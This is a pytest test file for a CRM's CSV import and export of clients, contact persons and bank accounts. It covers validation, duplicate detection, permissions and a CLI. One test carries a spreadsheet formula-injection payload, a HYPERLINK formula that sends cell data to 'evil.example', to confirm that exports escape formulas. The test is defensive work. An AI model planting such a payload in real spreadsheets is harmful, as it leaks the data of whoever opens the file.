"""crm_contacts: the CSV import (page and ``crm contacts import``) and export of clients with their
contact persons."""

from __future__ import annotations

import csv
import gc
import io
import re
from pathlib import Path

import pytest
from sqlalchemy import func, select

from core.db import db_session
from core.jobs import run_queued
from core.models import AuditEntry, Group, PermissionRecord
from core.testing import logged_in, make_user
from crm_contacts.importing import COLUMNS, apply_import, plan_import
from crm_contacts.models import Address, BankAccount, Client, CustomerGroup, Email, Person, Phone
from crm_contacts.permissions import IMPORT
from crm_contacts.search import search_text
from tests.helpers import run_cli

HEADER = ",".join(COLUMNS)


def row(**cells: str) -> str:
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerow([cells.get(c, "") for c in COLUMNS])
    return out.getvalue()


BIOPROM = dict(
    name="Bioprom",
    legal_name="Bioprom OOD",
    vat_number="BG175074752",
    customer_group="Wholesale",
    responsible="maria",
    status="active",
    tags="Horeca; Export",
    payment_term_days="30",
    invoice_remarks="Order number on every invoice.",
    street="ul. Vasil Levski 12",
    city="Plovdiv",
    postal_code="4000",
    phone="032 123 456",
    email="office@bioprom.bg",
    iban="BG80 BNBG 9661 1020 3456 78",
    bic="bnbgbgsf",
    bank_name="Bulgarian National Bank",
)
VALID = (
    HEADER
    + "\n"
    + row(**BIOPROM, person_name="Ivan Petrov", person_position="Purchasing manager",
          person_phone="0888 123 456", person_email="ivan@bioprom.bg")
    + row(**BIOPROM, person_name="Elena Ivanova", person_position="Chief accountant",
          person_phone="+359 87 234 5678")
    + row(name="Agrotech", vat_number="BG131071587", city="Sofia", responsible="peter",
          person_name="Georgi Kolev")
    + row(name="Ivan Georgiev", kind="individual", city="Ruse")
)  # fmt: skip


@pytest.fixture
def app(crm_app_factory):
    app = crm_app_factory(["crm_contacts"])
    app.boss = make_user(app, "boss", groups=("sales_manager",))
    app.maria = make_user(app, "maria", groups=("sales_rep",))
    app.peter = make_user(app, "peter", groups=("sales_rep",))
    make_user(app, "guest")
    return app


def _counts(app) -> tuple[int, int, int, int]:
    with app.app_context():
        return tuple(
            db_session.scalar(select(func.count()).select_from(model))
            for model in (Client, Person, Phone, Email)
        )


def _job_page(http, response) -> str:
    """The job page the form sent the user to, after a worker ran the job."""
    assert response.status_code == 302, response.get_data(as_text=True)
    assert re.fullmatch(r"/jobs/\d+", response.headers["Location"])
    run_queued(http.application)
    return response.headers["Location"]


def _upload(http, content: str | bytes, key: str = "vat_number", name: str = "clients.csv"):
    """Upload → the check job → (the job page opens) the check page."""
    data = content.encode() if isinstance(content, str) else content
    sent = http.post(
        "/contacts/import",
        data={"action": "preview", "key": key, "file": (io.BytesIO(data), name)},
        content_type="multipart/form-data",
    )
    if sent.status_code != 302:
        return sent
    job = http.get("/api/v1" + _job_page(http, sent)).get_json()
    assert job["status"] == "done" and job["follow"], job
    return http.get(job["link"])


def _check(page: str) -> str:
    return re.search(r'name="check" value="([^"]+)"', page).group(1)


def _confirm(http, preview):
    page = preview if isinstance(preview, str) else preview.get_data(as_text=True)
    sent = http.post("/contacts/import", data={"action": "confirm", "check": _check(page)})
    return http.get(_job_page(http, sent))


def _import(http, content: str, key: str = "vat_number"):
    preview = _upload(http, content, key)
    assert preview.status_code == 200, preview.get_data(as_text=True)
    return _confirm(http, preview)


def _no_inline_code(page: str) -> None:
    assert "style=" not in page
    assert not re.search(r"<script(?![^>]*\bsrc=)", page)
    assert not re.search(r"\son[a-z]+=", page)


def test_upload_preview_confirm_creates_clients_with_persons(app):
    http = logged_in(app, "boss")
    form = http.get("/contacts/import")
    page = form.get_data(as_text=True)
    assert form.status_code == 200
    assert 'enctype="multipart/form-data"' in page and 'name="csrf_token"' in page
    assert "person_email" in page and "UTF-8" in page  # the format is documented on the page
    assert "<code>iban</code>" in page and "<code>bank_name</code>" in page
    _no_inline_code(page)

    preview = _upload(http, VALID)
    page = preview.get_data(as_text=True)
    assert preview.status_code == 200
    assert 'data-count="create">3<' in page and 'data-count="errors">0<' in page
    assert page.count('data-action="create"') == 4  # the first rows, each with what happens
    assert 'name="check"' in page
    _no_inline_code(page)
    assert _counts(app) == (0, 0, 0, 0)  # a check writes nothing

    sent = http.post("/contacts/import", data={"action": "confirm", "check": _check(page)})
    again = http.post("/contacts/import", data={"action": "confirm", "check": _check(page)})
    assert again.headers["Location"] == sent.headers["Location"]  # a double click: one import
    job = http.get("/api/v1" + _job_page(http, sent)).get_json()
    assert job["status"] == "done" and job["summary"].startswith("clients.csv imported: 3 new")
    result = http.get(job["link"]).get_data(as_text=True)
    assert 'data-count="created">3<' in result and 'data-count="persons">3<' in result
    assert "see the import" in http.get(f"/contacts/import/check/{_check(page)}").text

    with app.app_context():
        bioprom = db_session.scalars(select(Client).where(Client.name == "Bioprom")).one()
        assert bioprom.vat_number == "BG175074752" and bioprom.status == "active"
        assert bioprom.customer_group.name == "Wholesale" and bioprom.responsible_id == app.maria
        assert sorted(t.name for t in bioprom.tags) == ["Export", "Horeca"]
        assert bioprom.payment_term_days == 30
        assert [(a.kind, a.street, a.city, a.postal_code) for a in bioprom.addresses] == [
            ("head_office", "ul. Vasil Levski 12", "Plovdiv", "4000")
        ]
        persons = {p.name: p for p in bioprom.persons}
        assert set(persons) == {"Ivan Petrov", "Elena Ivanova"}
        assert persons["Ivan Petrov"].position == "Purchasing manager"
        assert [p.number for p in persons["Ivan Petrov"].phones] == ["+359888123456"]
        assert [e.address for e in persons["Ivan Petrov"].emails] == ["ivan@bioprom.bg"]
        own = sorted(p.number for p in bioprom.phones if p.person_id is None)
        assert own == ["+35932123456"]
        assert [(b.iban, b.bic, b.bank_name, b.is_default) for b in bioprom.bank_accounts] == [
            ("BG80BNBG96611020345678", "BNBGBGSF", "Bulgarian National Bank", True)
        ]
        assert db_session.scalar(select(func.count()).select_from(BankAccount)) == 1
        # The search column is filled as the ORM would: name, city, phones, persons.
        for word in ("bioprom", "plovdiv", "032123456", "ivan petrov", "office@bioprom.bg"):
            assert word in bioprom.search_text
        # The import computes search_text itself (bulk inserts skip the ORM): as the ORM would.
        for client in db_session.scalars(select(Client)):
            assert client.search_text == search_text(client)
        individual = db_session.scalars(select(Client).where(Client.kind == "individual")).one()
        assert individual.name == "Ivan Georgiev" and individual.persons == []
    assert not list((Path(app.instance_path) / "crm_contacts_imports").glob("*.csv"))


def test_reimport_changes_nothing(app):
    http = logged_in(app, "boss")
    _import(http, VALID)
    before = _counts(app)
    with app.app_context():
        audit = db_session.scalar(select(func.count()).select_from(AuditEntry))
        versions = dict(db_session.execute(select(Client.id, Client.version)).all())
    preview = _upload(http, VALID).get_data(as_text=True)
    assert 'data-count="create">0<' in preview and 'data-count="update">0<' in preview
    assert 'data-count="unchanged">3<' in preview
    assert "Nothing to import" in preview
    _confirm(http, preview)
    assert _counts(app) == before
    with app.app_context():
        assert db_session.scalar(select(func.count()).select_from(AuditEntry)) == audit
        assert dict(db_session.execute(select(Client.id, Client.version)).all()) == versions


def test_a_corrected_row_updates_the_client_and_is_audited(app):
    http = logged_in(app, "boss")
    _import(http, VALID)
    corrected = VALID.replace("Plovdiv", "Pazardzhik").replace("Chief accountant", "CFO")
    corrected += row(
        name="Bioprom",
        vat_number="BG175074752",
        person_name="Nadezhda Popova",
        person_phone="0899 111 222",
    )  # the client's other cells left empty
    preview = _upload(http, corrected).get_data(as_text=True)
    assert 'data-count="update">1<' in preview and 'data-count="create">0<' in preview
    assert 'data-action="update"' in preview
    _confirm(http, preview)
    with app.app_context():
        bioprom = db_session.scalars(select(Client).where(Client.name == "Bioprom")).one()
        assert [a.city for a in bioprom.addresses] == ["Pazardzhik"]
        positions = {p.name: p.position for p in bioprom.persons}
        assert positions == {
            "Ivan Petrov": "Purchasing manager",
            "Elena Ivanova": "CFO",
            "Nadezhda Popova": "",
        }
        assert "pazardzhik" in bioprom.search_text and "nadezhda popova" in bioprom.search_text
        assert bioprom.version == 2
        audited = db_session.scalars(
            select(AuditEntry.model).where(AuditEntry.user_login == "boss")
        ).all()
        assert "crm_contacts_person" in audited  # the new person, through the ORM
        assert db_session.scalar(select(func.count()).select_from(Client)) == 3
        assert db_session.scalar(select(func.count()).select_from(Address)) == 3


def test_invalid_rows_are_reported_by_row_and_nothing_is_written(app):
    http = logged_in(app, "boss")
    bad = (
        HEADER
        + "\n"
        + row(name="Good One", vat_number="BG131071587", iban="BG80BNBG96611020345678")
        + row(name="Bad VAT", vat_number="BG175074753")
        + row(name="Bad phone", person_name="Ivan", person_phone="12")
        + row(name="", city="Sofia")
        + row(name="Unknown group", customer_group="Nobody", responsible="nobody")
        + row(name="Bad IBAN", iban="BG80BNBG96611020345679")
        + row(name="Bad BIC", iban="BG18RZBB91550123456789", bic="RZBB")
        + row(name="No IBAN", bic="RZBBBGSF", bank_name="Raiffeisenbank")
        + row(name="Long bank name", iban="DE89370400440532013000", bank_name="x" * 101)
    )
    response = _upload(http, bad)
    page = response.get_data(as_text=True)
    assert response.status_code == 200
    assert "row 3, vat_number: Not a valid VAT number for BG." in page
    assert "row 4, person_phone: Not a valid phone number" in page
    assert "row 5, name: Required." in page
    assert "row 6, customer_group: No customer group is named “Nobody”." in page
    assert "row 6, responsible: No user has the login “nobody”." in page
    assert "row 7, iban: Not a valid IBAN (check the digits and the length)." in page
    assert "row 8, bic: Not a valid BIC (8 or 11 letters and digits)." in page
    assert "row 9, iban: Required with a BIC or a bank name" in page
    assert "row 10, bank_name: At most 100 characters." in page
    assert "Nothing was imported" in page and 'name="check"' not in page
    assert 'data-count="errors">9<' in page
    _no_inline_code(page)
    assert _counts(app) == (0, 0, 0, 0)
    with app.app_context():
        assert db_session.scalar(select(func.count()).select_from(BankAccount)) == 0
    # Confirming a check with errors, or somebody else's, imports nothing either.
    failed_check = re.search(r"/contacts/import/check/(\d+)", response.request.path).group(1)
    for check in (failed_check, "999"):
        forged = http.post("/contacts/import", data={"action": "confirm", "check": check})
        assert forged.status_code == 400 and "Upload the file again" in forged.text
    assert _counts(app) == (0, 0, 0, 0)


def test_file_level_errors(app):
    http = logged_in(app, "boss")
    latin1 = (HEADER + "\n" + row(name="Café")).encode("latin-1")
    page = _upload(http, latin1).get_data(as_text=True)
    assert "not UTF-8 (line 2)" in page
    page = _upload(http, "name,e-mail\nBioprom,x@y.bg\n").get_data(as_text=True)
    assert "row 1, e-mail: Unknown column." in page
    page = _upload(http, "city\nSofia\n").get_data(as_text=True)
    assert "row 1, name: The column is required." in page
    with_bom = "\ufeffname,vat_number\nBioprom,BG175074752\n".encode()
    assert 'data-count="create">1<' in _upload(http, with_bom).get_data(as_text=True)
    assert http.post("/contacts/import", data={"action": "preview"}).status_code == 400


def test_rows_of_one_client_must_agree(app):
    with app.app_context():
        plan = plan_import(
            db_session,
            HEADER + "\n" + row(name="Bioprom", vat_number="BG175074752", city="Plovdiv",
                                iban="BG80 BNBG 9661 1020 3456 78", person_name="A")
            + row(vat_number="BG 175074752", city="Sofia", iban="bg80bnbg96611020345678",
                  person_name="B")
            + row(vat_number="BG175074752", iban="BG18RZBB91550123456789", person_name="C"),
        )  # fmt: skip
        # The same IBAN written another way is the same account; another one is not.
        assert [str(e) for e in plan.errors] == [
            "row 3, city: Differs from row 2, the same client: repeat “Plovdiv” or leave the "
            "cell empty.",
            "row 4, iban: Differs from row 2, the same client: repeat “BG80 BNBG 9661 1020 3456 "
            "78” or leave the cell empty.",
        ]


def test_similar_names_are_flagged_as_possible_duplicates(app):
    http = logged_in(app, "boss")
    _import(http, VALID)
    with app.app_context():
        bioprom_id = db_session.scalar(select(Client.id).where(Client.name == "Bioprom"))
    similar = (
        HEADER
        + "\n"
        + row(name="Bio-prom", vat_number="BG831909321")
        + row(name="Nova Foods Plovdiv")
        + row(name="Nova Food Plovdiv")
    )
    preview = _upload(http, similar)
    page = preview.get_data(as_text=True)
    assert preview.status_code == 200  # warnings do not stop the import
    assert f"row 2: Possible duplicate of Bioprom (#{bioprom_id})." in page
    assert "row 4: Possible duplicate of Nova Foods Plovdiv (row 3)." in page
    assert 'data-count="warnings">2<' in page and 'data-count="create">3<' in page


def test_names_differing_only_by_a_number_are_not_duplicates(app):
    http = logged_in(app, "boss")
    _import(http, HEADER + "\n" + row(name="Client 7") + row(name="Shop 3 Sofia"))
    numbered = HEADER + "\n" + "".join(row(name=f"Client {n}") for n in range(1, 201))
    page = _upload(http, numbered + row(name="Shop 4 Sofia")).get_data(as_text=True)
    assert 'data-count="create">200<' in page  # Client 7 is there already, as the same name
    # Client 7 is the existing client (its key is the name): nothing else looks alike.
    assert 'data-count="warnings">0<' in page and "Possible duplicate of" not in page


def test_names_equal_but_for_case_punctuation_legal_form_or_a_typo_are_flagged(app):
    http = logged_in(app, "boss")
    _import(http, HEADER + "\n" + row(name="Acme Ltd") + row(name="Petrov Trading"))
    with app.app_context():
        ids = dict(db_session.execute(select(Client.name, Client.id)).all())
    lookalikes = (
        HEADER
        + "\n"
        + row(name="ACME ltd.")  # case, punctuation
        + row(name="Petrov Tradng")  # a typo in a long name
        + row(name="Nova Foods E.O.O.D.")
        + row(name="nova foods")  # the legal form, spelt with dots, set aside
        + row(name="Acma")  # a short name one letter away: another client
        + row(name="Petrov Trading 2")  # another number: another client
    )
    page = _upload(http, lookalikes).get_data(as_text=True)
    assert f"row 2: Possible duplicate of Acme Ltd (#{ids['Acme Ltd']})." in page
    assert f"row 3: Possible duplicate of Petrov Trading (#{ids['Petrov Trading']})." in page
    assert "row 5: Possible duplicate of Nova Foods E.O.O.D. (row 4)." in page
    assert 'data-count="warnings">3<' in page and 'data-count="create">6<' in page


def test_import_by_name(app):
    http = logged_in(app, "boss")
    _import(http, VALID)
    renamed = HEADER + "\n" + row(name="agrotech", vat_number="BG131071587", city="Varna")
    preview = _upload(http, renamed, key="name").get_data(as_text=True)
    assert 'data-count="update">1<' in preview
    _confirm(http, preview)
    with app.app_context():
        client = db_session.scalars(select(Client).where(Client.vat_number == "BG131071587")).one()
        # matched by name, case aside; the file's spelling of the name is taken
        assert client.name == "agrotech" and [a.city for a in client.addresses] == ["Varna"]


def test_the_command_imports_with_a_progress_bar_and_refuses_bad_files(app, tmp_path):
    good = tmp_path / "good.csv"
    good.write_text(VALID, encoding="utf-8")
    dry = run_cli(app, "contacts", "import", str(good), "--dry-run")
    assert dry.exit_code == 0, dry.output
    assert "3 new clients" in dry.output and "nothing was written" in dry.output
    assert _counts(app) == (0, 0, 0, 0)

    done = run_cli(app, "contacts", "import", str(good))
    assert done.exit_code == 0, done.output
    assert "Checking" in done.output  # the progress bar
    assert "Imported: 3 created, 0 updated, 0 unchanged, 3 contact persons added." in done.output
    counts = _counts(app)
    assert counts[0] == 3

    again = run_cli(app, "contacts", "import", str(good))
    assert "0 new clients, 0 to update, 3 unchanged" in again.output
    assert _counts(app) == counts

    bad = tmp_path / "bad.csv"
    bad.write_text(
        HEADER + "\n" + row(name="New one") + row(name="X", vat_number="BG123", phone="1"),
        encoding="utf-8",
    )
    refused = run_cli(app, "contacts", "import", str(bad))
    assert refused.exit_code == 1
    assert "row 3, vat_number: Not a valid VAT number for BG." in refused.output
    assert "row 3, phone: Not a phone number." in refused.output
    assert "Nothing was imported" in refused.output
    assert _counts(app) == counts

    by_name = run_cli(app, "contacts", "import", str(good), "--key", "name")
    assert by_name.exit_code == 0 and "3 unchanged" in by_name.output


def test_export_reimports_as_a_no_op(app, tmp_path):
    http = logged_in(app, "boss")
    _import(http, VALID)
    export = http.get("/contacts/export.csv")
    assert export.status_code == 200
    assert export.headers["Content-Type"].startswith("text/csv")
    assert "attachment" in export.headers["Content-Disposition"]
    text = export.get_data(as_text=True)
    assert text.startswith("\ufeff" + HEADER)
    lines = list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))
    assert len(lines) == 4  # Bioprom twice (one row per person), Agrotech, the individual
    ivan = next(line for line in lines if line["person_name"] == "Ivan Petrov")
    assert ivan["phone"] == "+359 32 123 456" and ivan["tags"] == "Export; Horeca"
    assert ivan["customer_group"] == "Wholesale" and ivan["responsible"] == "maria"
    assert (ivan["iban"], ivan["bic"], ivan["bank_name"]) == (
        "BG80BNBG96611020345678", "BNBGBGSF", "Bulgarian National Bank"
    )  # fmt: skip

    with app.app_context():
        plan = plan_import(db_session, export.get_data())
        assert plan.valid and not plan.creates and not plan.updates and plan.unchanged == 3

    path = tmp_path / "out.csv"
    result = run_cli(app, "contacts", "export", str(path))
    assert result.exit_code == 0, result.output
    assert path.read_bytes() == export.get_data()  # the command writes what the page streams


def test_export_obeys_record_rules_and_permissions(app):
    with app.app_context():
        importers = Group(code="importers", name="Importers")
        importers.permissions.append(db_session.get(PermissionRecord, IMPORT))
        db_session.add(importers)
        db_session.commit()
    rita = make_user(app, "rita", groups=("sales_rep", "importers"))
    _import(logged_in(app, "boss"), VALID)
    with app.app_context():
        db_session.scalars(
            select(Client).where(Client.name == "Agrotech")
        ).one().responsible_id = rita
        db_session.commit()
    text = logged_in(app, "rita").get("/contacts/export.csv").get_data(as_text=True)
    names = {line["name"] for line in csv.DictReader(io.StringIO(text.removeprefix("\ufeff")))}
    assert names == {"Agrotech"}  # a representative's export: only their clients
    boss = logged_in(app, "boss").get("/contacts/export.csv").get_data(as_text=True)
    assert "Bioprom" in boss and "Agrotech" in boss
    for login in ("maria", "guest"):  # no import permission
        http = logged_in(app, login)
        assert http.get("/contacts/export.csv").status_code == 403
        assert http.get("/contacts/import").status_code == 403
        assert _upload(http, VALID).status_code == 403


def test_plan_and_apply_share_one_transaction(app):
    """What the page and the command use: nothing is written before apply, and apply refuses a
    plan with errors."""
    with app.app_context():
        plan = plan_import(db_session, HEADER + "\n" + row(name="X", vat_number="BG1"))
        assert not plan.valid
        with pytest.raises(ValueError):
            apply_import(db_session, plan)
        plan = plan_import(db_session, VALID)
        apply_import(db_session, plan)
        db_session.rollback()
    assert _counts(app) == (0, 0, 0, 0)


def test_customer_group_names_are_matched_without_case(app):
    with app.app_context():
        db_session.add(CustomerGroup(name="Horeca Sofia"))
        db_session.commit()
        plan = plan_import(db_session, HEADER + "\n" + row(name="Y", customer_group="horeca sofia"))
        assert plan.valid
        apply_import(db_session, plan)
        db_session.commit()
        client = db_session.scalars(select(Client)).one()
        assert client.customer_group.name == "Horeca Sofia"


def test_search_text_of_foreign_phones_is_the_orms(app):
    rows = (
        row(name="Munich GmbH", country="DE", vat_number="DE136695976", phone="089 1234567")
        + row(name="Roma Srl", country="IT", phone="+39 06 1234 5678", person_name="Luca",
              person_phone="+1 650 253 0000")
        + row(name="Tallinn OU", country="EE", phone="+372 612 3456")
    )  # fmt: skip
    with app.app_context():
        plan = plan_import(db_session, HEADER + "\n" + rows)
        assert plan.valid, [str(e) for e in plan.errors]
        apply_import(db_session, plan)
        db_session.commit()
        clients = db_session.scalars(select(Client)).all()
        assert len(clients) == 3
        for client in clients:
            assert client.search_text == search_text(client)
        assert "0891234567" in clients[0].search_text


def _accounts(app, name: str = "Bioprom") -> list[tuple[str, str, str, bool]]:
    with app.app_context():
        client = db_session.scalars(select(Client).where(Client.name == name)).one()
        return [
            (b.iban, b.bic, b.bank_name, b.is_default)
            for b in sorted(client.bank_accounts, key=lambda b: b.id)
        ]


def test_the_bank_account_is_created_compared_and_updated(app):
    http = logged_in(app, "boss")
    _import(http, VALID)
    assert _accounts(app) == [
        ("BG80BNBG96611020345678", "BNBGBGSF", "Bulgarian National Bank", True)
    ]
    # Written the other way (compact, lower case) it is the same account: nothing to do.
    same = VALID.replace("BG80 BNBG 9661 1020 3456 78", "bg80bnbg96611020345678")
    preview = _upload(http, same).get_data(as_text=True)
    assert 'data-count="unchanged">3<' in preview and 'data-count="update">0<' in preview
    # An empty iban cell removes nothing.
    blank = VALID.replace("BG80 BNBG 9661 1020 3456 78", "").replace("bnbgbgsf", "")
    blank = blank.replace("Bulgarian National Bank", "")
    preview = _upload(http, blank).get_data(as_text=True)
    assert 'data-count="unchanged">3<' in preview

    # A changed IBAN updates the default account.
    changed = VALID.replace("BG80 BNBG 9661 1020 3456 78", "BG18RZBB91550123456789")
    changed = changed.replace("bnbgbgsf", "RZBBBGSF").replace(
        "Bulgarian National Bank", "Raiffeisen"
    )
    preview = _upload(http, changed).get_data(as_text=True)
    assert 'data-count="update">1<' in preview
    _confirm(http, preview)
    assert _accounts(app) == [("BG18RZBB91550123456789", "RZBBBGSF", "Raiffeisen", True)]
    assert 'data-count="unchanged">3<' in _upload(http, changed).get_data(as_text=True)

    # A client's other account named in the file becomes the default one; none is removed.
    with app.app_context():
        bioprom = db_session.scalars(select(Client).where(Client.name == "Bioprom")).one()
        bioprom.bank_accounts.append(BankAccount(iban="BG80BNBG96611020345678", bic="BNBGBGSF"))
        db_session.commit()
    _import(http, VALID)
    assert _accounts(app) == [
        ("BG18RZBB91550123456789", "RZBBBGSF", "Raiffeisen", False),
        ("BG80BNBG96611020345678", "BNBGBGSF", "Bulgarian National Bank", True),
    ]
    assert 'data-count="unchanged">3<' in _upload(http, VALID).get_data(as_text=True)

    # A client without an account gets one; export and import back change nothing.
    agrotech = HEADER + "\n" + row(name="Agrotech", vat_number="BG131071587",
                                   iban="DE89 3704 0044 0532 0130 00")  # fmt: skip
    _import(http, agrotech)
    assert _accounts(app, "Agrotech") == [("DE89370400440532013000", "", "", True)]
    with app.app_context():
        plan = plan_import(db_session, http.get("/contacts/export.csv").get_data())
        assert plan.valid and not plan.creates and not plan.updates and plan.unchanged == 3
        assert db_session.scalar(select(func.count()).select_from(BankAccount)) == 3


FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def test_export_cells_never_run_as_formulas_and_import_back_unchanged(app):
    http = logged_in(app, "boss")
    content = (
        HEADER
        + "\n"
        + row(
            name=FORMULA, vat_number="BG175074752", city="@SUM(1)", person_name="+Ivan", tags="-x"
        )  # fmt: skip
    )
    assert _import(http, content).status_code == 200
    text = http.get("/contacts/export.csv").get_data(as_text=True)
    line = next(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))
    assert line["name"] == "'" + FORMULA and line["city"] == "'@SUM(1)"
    assert line["person_name"] == "'+Ivan" and line["tags"] == "'-x"
    # The export imported back is the same data: the quotes are taken off again.
    with app.app_context():
        plan = plan_import(db_session, text)
        assert plan.valid and not plan.creates and not plan.updates
        assert db_session.scalars(select(Client.name)).all() == [FORMULA]


# Werkzeug's test client spools a body this large to a temporary file it leaves to the garbage
# collector: collected here, inside this test, its warning is the harness's, not the next test's.
@pytest.mark.filterwarnings("ignore::ResourceWarning")
@pytest.mark.filterwarnings("ignore::pytest.PytestUnraisableExceptionWarning")
def test_a_five_megabyte_cell_is_a_row_error_not_a_crash(app):
    http = logged_in(app, "boss")
    huge = HEADER + "\n" + row(name="x" * (5 * 1024 * 1024), vat_number="BG1")
    preview = _upload(http, huge)
    assert preview.status_code in (200, 400)
    assert "longer than the 128 KB a cell may hold" in preview.get_data(as_text=True)
    with app.app_context():
        assert db_session.scalar(select(func.count()).select_from(Client)) == 0
    gc.collect()


def test_another_importer_cannot_see_or_confirm_my_import(app):
    with app.app_context():
        importers = Group(code="importers", name="Importers")
        importers.permissions.append(db_session.get(PermissionRecord, IMPORT))
        db_session.add(importers)
        db_session.commit()
    make_user(app, "rita", groups=("sales_rep", "importers"))
    boss, rita = logged_in(app, "boss"), logged_in(app, "rita")
    check_page = _upload(boss, VALID)
    check = _check(check_page.text)
    assert rita.get(f"/contacts/import/check/{check}").status_code == 404
    assert rita.get(f"/jobs/{check}").status_code == 404
    refused = rita.post("/contacts/import", data={"action": "confirm", "check": check})
    assert refused.status_code == 400 and _counts(app) == (0, 0, 0, 0)
    done = _confirm(boss, check_page)
    result = re.search(r'href="(/contacts/import/result/\d+)"', done.text)
    assert result is None or rita.get(result.group(1)).status_code == 404
    import_job = done.request.path.rsplit("/", 1)[-1]
    assert rita.get(f"/contacts/import/result/{import_job}").status_code == 404
    assert boss.get(f"/contacts/import/result/{import_job}").status_code == 200
